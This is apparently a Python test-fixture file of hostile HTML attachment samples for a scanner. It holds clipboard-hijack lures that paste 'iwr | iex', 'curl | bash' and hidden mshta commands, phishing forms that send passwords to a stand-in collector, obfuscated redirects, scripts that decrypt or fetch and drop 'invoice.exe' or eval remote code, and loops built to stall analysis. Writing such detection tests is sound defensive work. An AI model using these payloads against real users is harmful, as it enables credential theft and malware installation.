"""Attached pages that act without a file: commands for the clipboard, forms that send what is typed, hidden addresses,
pages written by scripts, and files whose content only a library or a key that is not there would give."""

# ruff: noqa: E501  scripts are one line each, as they are mailed

import base64
import json
import urllib.parse

from tests.pages.smuggling_pages import QUIET, page, script

COMMAND = 'powershell -w hidden -c "iwr https://files.example/a.txt | iex" # Cloudflare verification 4711'
MAC_COMMAND = '/bin/bash -c "$(curl -fsSL https://files.example/a.sh)" # I am not a robot'
SHARE_COMMAND = "mshta https://files.example/a.hta" + " " * 90 + "# C:\\Company\\Reports\\October.docx"
KEYS = "<p>Press <b>Windows + R</b>, then <b>Ctrl + V</b> and Enter.</p>"
TARGET = "https://login.collect.example/take.php"
FORM = "<form id=f><input name=email placeholder=E-mail><input type=password name=pass><button id=go>Sign in</button></form>"
B64 = base64.b64encode


def hidden(text: str) -> str:
    """An expression whose value is the text, and that does not contain it."""
    return f"atob('{B64(text.encode()).decode()}')"


PAYLOAD = f"var s=atob('{B64(b'MZ' + bytes(range(256))).decode()}');{QUIET}"

COMMANDS: dict[str, str] = {
    "on click": script(
        f"go.onclick=()=>navigator.clipboard.writeText({hidden(COMMAND)})", f"<button id=go>I am human</button>{KEYS}"
    ),
    "without instruction": script(
        f"go.onclick=()=>navigator.clipboard.writeText({hidden(COMMAND)})", "<button id=go>Continue</button>"
    ),
    "by itself": script(f"navigator.clipboard.writeText({hidden(COMMAND)})", KEYS),
    "text area": script(
        f"var t=document.createElement('textarea');t.value={hidden(COMMAND)};document.body.append(t);t.select();document.execCommand('copy');t.remove()",
        KEYS,
    ),
    "copy event": script(
        f"document.addEventListener('copy',e=>{{e.clipboardData.setData('text/plain',{hidden(COMMAND)});e.preventDefault()}})",
        "<p>Copy the code 4711 and paste it into Run.</p>",
    ),
    "clipboard item": script(
        f"go.onclick=()=>navigator.clipboard.write([new ClipboardItem({{'text/plain':new Blob([{hidden(COMMAND)}],{{type:'text/plain'}})}})])",
        f"<button id=go>Verify</button>{KEYS}",
    ),
    "pieces": script(
        "var p=['po','wer','shell',' -e ','SQBFAFgA'];go.addEventListener('mousedown',()=>navigator['clip'+'board']['write'+'Text'](p.join('')))",
        "<button id=go>Verify</button>",
    ),
    "file explorer": script(
        f"go.onclick=()=>{{navigator.clipboard.writeText({hidden(SHARE_COMMAND)});up.click()}}",
        "<button id=go>Open File Explorer</button><input type=file id=up hidden><p>Ctrl + L, Ctrl + V</p>",
    ),
    "terminal": script(
        f"go.onclick=()=>navigator.clipboard.writeText({hidden(MAC_COMMAND)})",
        "<button id=go>Copy</button><p>Open Terminal and press Cmd + V.</p>",
    ),
    "shown and told": script(
        "go.onclick=()=>navigator.clipboard.writeText(c.textContent)",
        f"<code id=c>{COMMAND}</code><button id=go>Copy</button>{KEYS}",
    ),
    "jquery": page(
        f"<button id=go>Verify</button>{KEYS}<script src='https://code.jquery.example/jquery.js'></script><script>$('#go').click(function(){{var t=$('<textarea>').appendTo('body').val({hidden(COMMAND)});t.get(0).select();document.execCommand('copy')}})</script>"
    ),
    "selection": script(
        f"var d=document.createElement('div');d.textContent={hidden(COMMAND)};document.body.append(d);var r=document.createRange();r.selectNodeContents(d);getSelection().addRange(r);document.execCommand('copy')",
        KEYS,
    ),
}

LOGINS: dict[str, str] = {
    "fetch": script(
        f"f.onsubmit=e=>{{e.preventDefault();fetch({hidden(TARGET)},{{method:'POST',body:new FormData(f)}})}}", FORM
    ),
    "fetch of json": script(
        f"f.addEventListener('submit',async e=>{{e.preventDefault();await fetch({hidden(TARGET)},{{method:'POST',body:JSON.stringify({{u:f.email.value,p:f.pass.value}})}})}})",
        FORM,
    ),
    "in base64": script(
        f"f.onsubmit=e=>{{e.preventDefault();fetch({hidden(TARGET)}+'?d='+btoa(f.email.value+':'+f.pass.value))}}", FORM
    ),
    "xml http request": script(
        f"go.onclick=()=>{{var x=new XMLHttpRequest;x.open('POST',{hidden(TARGET)});x.send('p='+encodeURIComponent(document.querySelector('[type=password]').value))}}",
        FORM,
    ),
    "beacon": script(
        f"addEventListener('beforeunload',()=>navigator.sendBeacon({hidden(TARGET)},document.forms[0].pass.value))",
        FORM,
    ),
    "picture": script(f"go.onclick=()=>{{new Image().src={hidden(TARGET)}+'?p='+escape(f.pass.value)}}", FORM),
    "web socket": script(
        f"var w=new WebSocket({hidden(TARGET.replace('https', 'wss'))});f.pass.oninput=()=>w.send(f.pass.value)", FORM
    ),
    "messenger": script(
        "go.onclick=e=>{e.preventDefault();fetch('https://api.telegram.example/bot'+'123:abc'+'/sendMessage',{method:'POST',body:JSON.stringify({chat_id:1,text:f.email.value+' '+f.pass.value})})}",
        FORM,
    ),
    "jquery": page(
        f"{FORM}<script src='https://code.jquery.example/jquery-3.7.min.js'></script><script>$('#go').click(function(e){{e.preventDefault();$.ajax({{url:{hidden(TARGET)},type:'POST',data:{{u:$('input[name=email]').val(),p:$('input[name=pass]').val()}}}})}})</script>"
    ),
    "axios": page(
        f"{FORM}<script src='https://cdn.example/axios.min.js'></script><script>f.onsubmit=e=>{{e.preventDefault();axios.post({hidden(TARGET)},{{p:f.pass.value}})}}</script>"
    ),
    "action set late": script(f"f.onsubmit=()=>{{f.action={hidden(TARGET)};f.method='post'}}", FORM),
    "text security": script(
        f"f.onsubmit=e=>{{e.preventDefault();fetch({hidden(TARGET)},{{method:'POST',body:f.word.value}})}}",
        "<form id=f><input name=word style='-webkit-text-security:disc'><button>Open</button></form>",
    ),
    "prompt": script(f"var p=prompt('Your session has expired. Password:');fetch({hidden(TARGET)}+'?'+p)"),
    "keys": script(
        f"var k='';f.pass.addEventListener('keyup',e=>{{k=f.pass.value;fetch({hidden(TARGET)},{{method:'POST',body:k.split('').reverse().join('')}})}})",
        FORM,
    ),
    "written form": script(
        f"var d=atob('{B64(bytes(byte ^ 21 for byte in FORM.encode())).decode()}'),h='';for(var i=0;i<d.length;i++)h+=String.fromCharCode(d.charCodeAt(i)^21);document.body.innerHTML=h;f.onsubmit=e=>{{e.preventDefault();fetch({hidden(TARGET)},{{method:'POST',body:f.pass.value}})}}"
    ),
    "built elements": script(
        f"var i=document.createElement('input');i.type='password';i.name='p';document.body.append(i);var b=document.createElement('button');b.onclick=()=>fetch({hidden(TARGET)}+'?'+i.value);document.body.append(b)"
    ),
    "generated page": script(
        f"location=URL.createObjectURL(new Blob([{hidden('<html><body>' + FORM.replace('id=f', f'action={TARGET} method=post'))}],{{type:'text/html'}}))"
    ),
    "whole page": script(
        f"document.open();document.write({hidden('<!doctype html><html><body><h1>Sign in</h1>' + FORM.replace('id=f', f'action={TARGET} method=post') + '</body></html>')});document.close()"
    ),
}

REDIRECTS: dict[str, str] = {
    "decoded": script(f"location.href={hidden(TARGET)}"),
    "pieces": script(
        "var h=['login','collect','example'];window['loc'+'ation']['rep'+'lace']('ht'+'tps://'+h.join('.'))"
    ),
    "later": script(f"setTimeout(()=>top.location.assign({hidden(TARGET)}),3000)"),
    "window": script(f"go.onclick=()=>window.open({hidden(TARGET)})", "<button id=go>Read</button>"),
    "link": script(f"var a=document.createElement('a');a.href={hidden(TARGET)};document.body.append(a);a.click()"),
    "refresh": script(f"document.write('<meta http-equiv=refresh content=\"0;url='+{hidden(TARGET)}+'\">')"),
    "exclusive or": script(
        f"var c={json.dumps([ord(char) ^ 91 for char in TARGET])},u='';for(var n of c)u+=String.fromCharCode(n^91);self.location=u"
    ),
    "handler": page(f'<body onload="{urllib.parse.quote("x", safe="")};location={hidden(TARGET)}">'.replace("x;", "")),
    "broken picture": page(f'<img src=x onerror="location={hidden(TARGET)}">'),
    "from a server": script("fetch('https://cdn.example/next').then(r=>r.json()).then(j=>{location=j.url})"),
    "string timer": script(f"setTimeout('location='+JSON.stringify({hidden(TARGET)}),50)"),
    "script link": page(f'<a href="javascript:location={hidden(TARGET)}">Read</a>'),
}

UNKNOWN: dict[str, str] = {
    "library decrypts": page(
        "<script src='https://cdn.example/crypto-js.min.js'></script><script>var d=CryptoJS.AES.decrypt('U2FsdGVkX19','k').toString(CryptoJS.enc.Utf8);var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([d]));a.download='invoice.iso';a.click()</script>"
    ),
    "web assembly": script(
        "WebAssembly.instantiate(Uint8Array.from(atob('AGFzbQEAAAA='),c=>c.charCodeAt(0))).then(m=>{var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([m.instance.exports.unpack()]));a.download='invoice.exe';a.click()})"
    ),
    "key in the page": script(
        "(async()=>{const k=await crypto.subtle.importKey('raw',new Uint8Array(16),'AES-CBC',false,['decrypt']);const d=await crypto.subtle.decrypt({name:'AES-CBC',iv:new Uint8Array(16)},k,new Uint8Array(64));const a=document.createElement('a');a.href=URL.createObjectURL(new Blob([d]));a.download='invoice.img';a.click()})()"
    ),
    "decrypted page": script(
        "crypto.subtle.importKey('raw',new Uint8Array(16),'AES-GCM',0,['decrypt']).then(k=>crypto.subtle.decrypt({name:'AES-GCM',iv:new Uint8Array(12)},k,new Uint8Array(300))).then(d=>document.write(new TextDecoder().decode(d)))"
    ),
    "fetched page": script(
        "fetch('https://cdn.example/page').then(r=>r.text()).then(t=>{document.documentElement.innerHTML=t})"
    ),
    "fetched script": script("fetch('https://cdn.example/code').then(r=>r.text()).then(t=>(0,eval)(t))"),
    "fetched file": script(
        "fetch('https://cdn.example/file').then(r=>r.blob()).then(b=>{var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='invoice.exe';a.click()})"
    ),
}

# Pages that work against the limits of an analysis.
STALLING: dict[str, str] = {
    "computes first": script("var n=0;for(var i=0;i<4e9;i++)n^=i;" + PAYLOAD),
    "computes in a timer": script("setTimeout(()=>{var n=0;for(var i=0;i<4e9;i++)n^=i;" + PAYLOAD + "},99)"),
    "fills the memory first": script("var k=[];for(var i=0;i<99;i++)k.push(new Uint8Array(5e6));" + PAYLOAD),
    "many files before": script("for(var i=0;i<900;i++)new Blob(['nothing of worth '+i]);" + PAYLOAD),
    "large files before": script("for(var i=0;i<9;i++)new Blob([new Uint8Array(3e6)]);" + PAYLOAD),
    "many pictures before": script("for(var i=0;i<900;i++)new Image().src='https://cdn.example/'+i;" + PAYLOAD),
    "many codes before": script("for(var i=0;i<300;i++)Function('return '+i)();" + PAYLOAD),
}
